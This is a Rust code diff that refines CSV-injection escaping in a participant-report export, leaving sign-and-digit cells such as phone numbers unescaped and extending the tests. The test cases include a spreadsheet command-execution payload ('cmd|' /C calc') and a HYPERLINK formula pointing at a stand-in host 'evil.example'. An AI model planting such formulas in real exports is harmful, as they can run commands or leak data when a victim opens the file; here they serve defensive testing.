@@ -114,10 +114,12 @@ pub fn to_csv(report: &ParticipantReport, sites: &SiteNames) -> String {
 /// or a carriage return runs as a formula in Excel and LibreOffice (a client named
 /// `=HYPERLINK(...)` would send data away when the file is opened), so it gets a leading `'`,
 /// as OWASP advises ("CSV Injection"): the spreadsheet shows the text, and a reader of the
-/// file sees the one added character. Values come from coaches and admins (names, site
-/// names), so no cell is trusted.
+/// file sees the one added character. A cell that is only a sign and digits (a phone number
+/// `+358401234567`, a count `-5`) calls no function and refers to no cell, so it is left as
+/// it is: a script or a person reading the export gets the number, not `'+358…`. Values come
+/// from coaches and admins (names, site names), so no cell is trusted.
 pub fn csv_cell(text: &str) -> String {
-    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_signed_digits(text) {
         format!("'{text}")
     } else {
         text.to_owned()
@@ -127,6 +129,12 @@ pub fn csv_cell(text: &str) -> String {
     } else {
         text
     }
+}
+
+/// Whether `text` is an optional `+` or `-` followed by one digit or more, and nothing else.
+fn is_signed_digits(text: &str) -> bool {
+    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
+    !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
 }
 
 #[cfg(test)]
@@ -143,7 +151,19 @@ mod tests {
 
     #[test]
     fn a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text() {
-        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
+        for formula in [
+            "=1+1",
+            "=1",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "+HYPERLINK('http://evil.example';A1)",
+            "+",
+            "-",
+            "+ 1",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
             assert_eq!(csv_cell(formula).trim_matches('"'), format!("'{formula}"));
         }
         assert_eq!(
@@ -153,6 +173,13 @@ mod tests {
         // Only the first character counts.
         assert_eq!(csv_cell("a=b"), "a=b");
         assert_eq!(csv_cell(""), "");
+    }
+
+    #[test]
+    fn a_cell_of_only_a_sign_and_digits_is_written_as_it_is() {
+        for number in ["+358401234567", "-5", "+1", "-1", "0401234567"] {
+            assert_eq!(csv_cell(number), number);
+        }
     }
 
     #[test]
